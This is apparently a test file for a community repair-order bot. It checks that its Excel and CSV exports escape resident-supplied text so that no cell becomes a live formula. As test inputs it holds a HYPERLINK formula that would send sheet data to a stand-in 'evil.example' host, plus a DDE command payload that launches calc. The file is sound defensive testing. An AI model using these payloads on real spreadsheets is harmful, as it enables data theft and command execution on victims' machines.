"""Exports that are safe to open in Excel/WPS: resident text never becomes a formula.

A resident (or a display name) can write ``=HYPERLINK("http://evil.example/?d="&D2&E3,"详情")``; opened
in Excel that is a live formula sending the sheet's data away.  Every export writes such a cell as
text: xlsx cells of type string (no ``<f>`` element), CSV cells with a leading ``'``.
"""

from __future__ import annotations

import asyncio
import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.sheets.cells import csv_cell, from_csv
from bot.sheets.roster import COLUMNS
from tests.conftest import ROOT, Chat
from tests.webkit import GRID1, MARKET, Web, web  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/?d="&D2&E3,"详情")'
NAME = "=cmd|' /C calc'!A0"


async def evil_order(chat: Chat) -> None:
    await chat.say(GRID1, NAME, f"发单 {EVIL} 水管漏了，阳光小区3栋2单元501室，电话13908521234",
                   sender_id="wxid_evil")
    await chat.say(GRID1, "杨先媚", "派单 1")
    await chat.say(MARKET, "熊明祥", "接1")


def assert_xlsx_has_no_formula(data: bytes) -> list[list[object]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = load_workbook(io.BytesIO(data))
    rows = [[c.value for c in row] for row in book.worksheets[0].iter_rows()]
    cells = [c for row in book.worksheets[0].iter_rows() for c in row]
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert risky and all(c.data_type == "s" for c in risky)
    return rows


def assert_csv_is_quoted(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    flat = [cell for row in rows for cell in row]
    assert not [cell for cell in flat if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(cell.startswith("'=HYPERLINK") for cell in flat) and any(cell.startswith("'=cmd") for cell in flat)
    return rows


@pytest.mark.parametrize(("value", "written"), [
    pytest.param("=1+1", "'=1+1", id="equals"),
    pytest.param("+86 139", "'+86 139", id="plus"),
    pytest.param("-5", "'-5", id="minus"),
    pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
    pytest.param("\tx", "'\tx", id="tab"),
    pytest.param("\rx", "'\rx", id="cr"),
    pytest.param("阳光小区", "阳光小区", id="plain"),
    pytest.param("'quoted", "'quoted", id="own-quote-kept"),
])
def test_a_csv_cell_that_could_be_a_formula_is_quoted_and_read_back(value, written):
    assert csv_cell(value) == written
    assert from_csv(written) == value


async def test_dashboard_downloads_write_formulas_as_text(web: Web, chat: Chat) -> None:
    await evil_order(chat)
    await web.login()
    response = await web.response("get", "/dash/export?from=2026-11-01&to=2026-11-30&format=xlsx")
    rows = assert_xlsx_has_no_formula(await response.get_data())
    assert any(isinstance(v, str) and v.startswith(EVIL) for v in rows[2]), "row 1: the title, row 2: the header"
    response = await web.response("get", "/dash/export?from=2026-11-01&to=2026-11-30&format=csv")
    assert_csv_is_quoted((await response.get_data()).decode("utf-8-sig"))


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
async def test_linggong_export_writes_formulas_as_text(chat: Chat, tmp_path: Path, fmt: str) -> None:
    from bot.cli import main

    await evil_order(chat)
    out = tmp_path / f"orders.{fmt}"
    argv = ["--config", str(ROOT / "config.toml"), "export", "--from", "2026-11-01", "--to", "2026-11-30",
            "--db", chat.repo.path, "--format", fmt, "--out", str(out)]
    assert await asyncio.to_thread(main, argv) == 0
    if fmt == "xlsx":
        assert_xlsx_has_no_formula(out.read_bytes())
    else:
        assert_csv_is_quoted(out.read_text(encoding="utf-8-sig"))


async def test_the_daily_xlsx_writes_formulas_as_text(chat: Chat) -> None:
    from bot.schedule.jobs import write_daily_export

    await evil_order(chat)
    community = chat.app.config.communities[0]
    tz = chat.app.config.tz
    path = await write_daily_export(chat.app, community, datetime(2026, 11, 23, tzinfo=tz),
                                    datetime(2026, 11, 24, tzinfo=tz))
    assert path is not None and path.exists()
    assert_xlsx_has_no_formula(path.read_bytes())


async def test_the_roster_export_quotes_formulas_and_imports_them_back_unchanged(web: Web, chat: Chat) -> None:
    await web.login()
    header = ",".join(COLUMNS)
    roster = f'{header}\n"=HYPERLINK(""x"")",wxid_evilworker,13800001111,家电水电维修,@队,2026-05-01,已登记\n'
    status, _ = await web.post("/dash/workers/import", {}, files={"file": _upload(roster)})
    assert status == 302
    response = await web.response("get", "/dash/workers/export.csv")
    body = (await response.get_data()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    (row,) = [r for r in rows if r[1] == "wxid_evilworker"]
    assert row[0] == "'=HYPERLINK(\"x\")" and row[4] == "'@队"
    status, _ = await web.post("/dash/workers/import", {}, files={"file": _upload(body)})
    assert status == 302
    async with chat.app.repo.transaction() as tx:
        worker = await tx.find_worker("洗马社区", wechat="wxid_evilworker")
    assert (worker.name, worker.team) == ('=HYPERLINK("x")', "@队")


def _upload(text: str):
    from quart.datastructures import FileStorage

    return FileStorage(io.BytesIO(text.encode("utf-8")), filename="roster.csv", content_type="text/csv")
